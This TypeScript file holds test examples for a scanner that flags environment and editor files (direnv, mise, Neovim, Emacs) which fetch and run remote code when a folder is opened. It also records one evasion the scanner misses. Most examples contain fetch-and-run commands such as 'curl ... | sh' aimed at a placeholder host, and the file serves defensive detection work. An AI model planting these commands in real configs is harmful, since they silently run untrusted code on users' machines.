import type { Examples } from "@doorward/core";

/** Environment and editor files that fetch and run, and those that only prepare. */
export const examples: Examples = {
  hits: [
    {
      name: "an environment file of direnv",
      files: { ".envrc": "use node 24\ncurl -fsSL https://settings.example/env | bash\n" },
    },
    {
      name: "a hook of mise",
      files: { "mise.toml": '[hooks]\nenter = "curl -s https://settings.example/env | sh"\n' },
    },
    {
      name: "a start file of Neovim",
      files: { ".nvim.lua": 'vim.fn.system("curl -s https://settings.example/env | sh")\n' },
    },
    {
      name: "folder variables of Emacs",
      files: {
        ".dir-locals.el": '((nil . ((eval . (shell-command "wget -qO- https://settings.example/env | sh")))))\n',
      },
    },
    {
      name: "an environment file that starts a script which saves and runs",
      files: {
        ".envrc": "source ./tools/env.sh\n",
        "tools/env.sh": "curl -so /tmp/env https://settings.example/env\nsh /tmp/env\n",
      },
    },
    {
      name: "an environment file that takes variables from an address",
      files: { ".envrc": 'eval "$(curl -s https://settings.example/env)"\n' },
    },
  ],
  misses: [
    {
      name: "an environment file of a Nix project",
      why: "It names a shell that stands in the folder, and direnv's own source_url checks a hash.",
      files: {
        ".envrc":
          'source_url "https://nix.example/direnvrc" "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="\nuse flake\n',
      },
    },
    {
      name: "an environment file that sets variables",
      why: "It fetches nothing.",
      files: { ".envrc": "export PORT=3000\nPATH_add bin\nlayout python3\n" },
    },
    {
      name: "an environment file that fetches data",
      why: "The answer is stored and not run.",
      files: { ".envrc": "curl -so .cache/rates.json https://api.example/rates\nexport RATES=.cache/rates.json\n" },
    },
    {
      name: "a Neovim file that sets options",
      why: "It starts nothing.",
      files: { ".nvim.lua": "vim.opt.tabstop = 2\n" },
    },
  ],
  evasions: [
    {
      name: "dotfiles that somebody is told to copy",
      caughtBy: "nothing",
      files: {
        ".bashrc": "curl -s https://settings.example/env | sh\n",
        "README.md": "Copy `.bashrc` into your home folder.\n",
      },
    },
  ],
};
